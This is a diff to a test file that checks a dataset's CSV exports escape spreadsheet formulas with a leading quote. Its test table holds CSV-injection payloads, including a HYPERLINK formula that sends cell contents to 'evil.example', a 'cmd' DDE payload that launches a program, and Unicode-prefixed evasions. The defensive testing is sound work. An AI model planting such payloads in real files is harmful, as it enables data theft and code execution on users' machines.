@@ -1,6 +1,9 @@
 // Every CSV download, read back as Python's csv module reads it (a bare line
-// break outside quotes ends a record), gives exactly the dataset's rows.
+// break outside quotes ends a record), gives exactly the dataset's rows, once
+// the quote that neutralises a formula is taken off as docs/open-data.md says.
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
+import { neutralised, original } from '../../src/dataset/csv-formula.ts';
 import { actionsCsv, ACTION_COLUMNS, itemsCsv, ITEM_COLUMNS, plansCsv, PLAN_COLUMNS } from '../../src/dataset/csv.ts';
 import type { Plan } from '../../src/model/schema.ts';
 import { RESULT_COLUMNS, resultsCsv, type ResultRow } from '../../src/search/results-csv.ts';
@@ -44,12 +47,16 @@ function hostile(plans: Plan[]): Plan[] {
   }));
 }
 
+/** The records of a file, each cell as the reader docs/open-data.md describes gets it back (one leading quote removed). */
 function read(text: string, header: string[], records = readCsvStrictly(text)): string[][] {
   expect(text.startsWith('\uFEFF')).toBe(true);
   const [head, ...rows] = records;
   expect(head).toEqual(header);
   for (const row of rows) expect(row).toHaveLength(header.length);
-  return rows;
+  // No cell a spreadsheet would run as a formula.
+  for (const row of rows)
+    for (const cell of row) expect(neutralised(cell), cell).toBe(cell.startsWith("'") ? `'${cell}` : cell);
+  return rows.map((r) => r.map(original));
 }
 
 describe.each([
@@ -137,5 +144,86 @@ describe("the search page's export", () => {
     const text = resultsCsv(rows);
     expect(text.includes('\r\n')).toBe(true);
     expect(read(text, [...RESULT_COLUMNS])).toEqual(rows.map((r) => RESULT_COLUMNS.map((c) => r[c])));
+  });
+});
+
+/** Cells a spreadsheet would run, and what each must be written as. */
+const FORMULAS: [string, string][] = [
+  ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'],
+  ['+SUM(1,2)', "'+SUM(1,2)"],
+  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['\t=1+1', "'\t=1+1"],
+  ['\r=1+1', "'\r=1+1"],
+  ['  =1+1', "'  =1+1"],
+  ['\u3000=1+1', "'\u3000=1+1"],
+  ['\u00a0+1', "'\u00a0+1"],
+  ['\u200b@x', "'\u200b@x"],
+  ['\uff1d1+1', "'\uff1d1+1"],
+  ["'quoted'", "''quoted'"],
+  // Values that only look like formulas: a lone sign and plain numbers are never run.
+  ['-', '-'],
+  ['-5', '-5'],
+  ['+3.5', '+3.5'],
+  ['1+1', '1+1'],
+  ['e=mc2', 'e=mc2'],
+  ['', ''],
+];
+
+describe('cells that could start a formula', () => {
+  it('are written with a quote in front, and quoted, as OWASP recommends', () => {
+    expect(FORMULAS.map(([cell]) => neutralised(cell))).toEqual(FORMULAS.map(([, out]) => out));
+  });
+
+  const [plan] = structuredClone(dataset.plans);
+  const items = FORMULAS.map(([cell], n) => ({
+    ...plan!.items[0]!,
+    key: `x/${n}`,
+    text: cell,
+    section: cell,
+    actions: [{ owner: cell, target: cell, due: null, text: cell }],
+  }));
+  const plans = [{ ...plan!, establishmentName: '=1+1', establishment: '@HMP x', items }];
+  const csvs = [itemsCsv(plans, SITE), actionsCsv(plans)];
+
+  it('reach items.csv and actions.csv neutralised: Python and csv-parse read the quote, and taking it off gives the text', () => {
+    const [pyItems, pyActions] = readCsvsStrictly(csvs);
+    const col = (name: string) => ITEM_COLUMNS.findIndex((c) => c.name === name);
+    for (const records of [pyItems!, parse(csvs[0]!, { bom: true, relax_quotes: false }) as string[][]]) {
+      expect(
+        records
+          .slice(1)
+          .map((r) => [r[col('text')], r[col('section')], r[col('establishment')], r[col('establishment_as_written')]]),
+      ).toEqual(FORMULAS.map(([, out]) => [out, out, "'=1+1", "'@HMP x"]));
+    }
+    for (const records of [pyActions!, parse(csvs[1]!, { bom: true }) as string[][]]) {
+      expect(records.slice(1).map((r) => [r[2], r[3], r[5]])).toEqual(FORMULAS.map(([, out]) => [out, out, out]));
+    }
+    expect(
+      read(
+        csvs[0]!,
+        ITEM_COLUMNS.map((c) => c.name),
+        pyItems,
+      ).map((r) => r[col('text')]),
+    ).toEqual(FORMULAS.map(([cell]) => cell));
+  });
+
+  it('are quoted in the file, so that the quote is part of the cell', () => {
+    expect(csvs[0]).toContain(',"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",');
+    expect(csvs[1]).toContain(',"\'@SUM(A1)","\'@SUM(A1)",,"\'@SUM(A1)"');
+    expect(csvs[1]).toContain(',-,-,,-');
+  });
+
+  it('in the search page’s export too', () => {
+    const rows: ResultRow[] = FORMULAS.map(([cell]) => ({
+      kind: 'Recommendation',
+      number: '1',
+      'prison and year': cell,
+      status: cell,
+      theme: cell,
+      url: 'https://plans.example.org/',
+    }));
+    const records = readCsvStrictly(resultsCsv(rows)).slice(1);
+    expect(records.map((r) => r[2])).toEqual(FORMULAS.map(([, out]) => out));
   });
 });
